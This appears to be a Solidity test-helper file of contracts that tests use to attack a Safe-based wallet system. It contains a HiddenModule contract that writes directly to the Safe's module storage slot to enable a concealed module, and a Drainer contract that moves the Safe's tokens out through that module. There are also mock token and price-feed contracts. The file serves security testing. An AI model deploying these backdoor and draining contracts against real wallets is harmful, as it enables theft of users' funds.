// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {SignatureChecker} from "@openzeppelin/contracts/utils/cryptography/SignatureChecker.sol";

// What the tests attack with. Compiled into tests/chain/attack; never shipped.

/// Setup code a client might run when it creates its own Safe: enables a module without linking it into the module list.
contract HiddenModule {
    // storage layout of the Safe: slot 0 singleton, slot 1 mapping of modules
    function plant(address evil, address next, bytes calldata rest) external {
        assembly ("memory-safe") {
            mstore(0, evil)
            mstore(32, 1)
            sstore(keccak256(0, 64), 1)
        }
        (bool ok,) = next.delegatecall(rest);
        require(ok, "install failed");
    }
}

interface IModuleExec {
    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 operation)
        external
        returns (bool);
}

contract Drainer {
    function drain(address safe, address token, uint256 amount) external {
        bytes memory data = abi.encodeCall(ERC20.transfer, (msg.sender, amount));
        require(IModuleExec(safe).execTransactionFromModule(token, 0, data, 0), "drain failed");
    }
}

/// A dollar token whose signed transfer accepts contract signatures, as USDC 2.2 does.
contract SignedDollar is ERC20("Signed Dollar", "SUSD") {
    mapping(bytes32 => bool) private used;

    function decimals() public pure override returns (uint8) {
        return 6;
    }

    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }

    function digest(address from, address to, uint256 amount, bytes32 nonce) public view returns (bytes32) {
        return keccak256(abi.encode(block.chainid, address(this), from, to, amount, nonce));
    }

    function transferWithAuthorization(
        address from,
        address to,
        uint256 amount,
        bytes32 nonce,
        bytes calldata signature
    ) external {
        bytes32 d = digest(from, to, amount, nonce);
        require(!used[d], "used");
        used[d] = true;
        require(SignatureChecker.isValidSignatureNow(from, d, signature), "bad signature");
        _transfer(from, to, amount);
    }
}

/// A feed whose time and answer the tests choose; without an answer it reverts, as Chainlink's does before its first round.
contract ScriptedFeed {
    uint8 public constant decimals = 8;
    int256 private answer;
    uint256 private time;
    bool private known;

    function set(int256 answer_, uint256 time_) external {
        (answer, time, known) = (answer_, time_, true);
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        require(known, "No data present");
        return (1, answer, time, time, 1);
    }
}
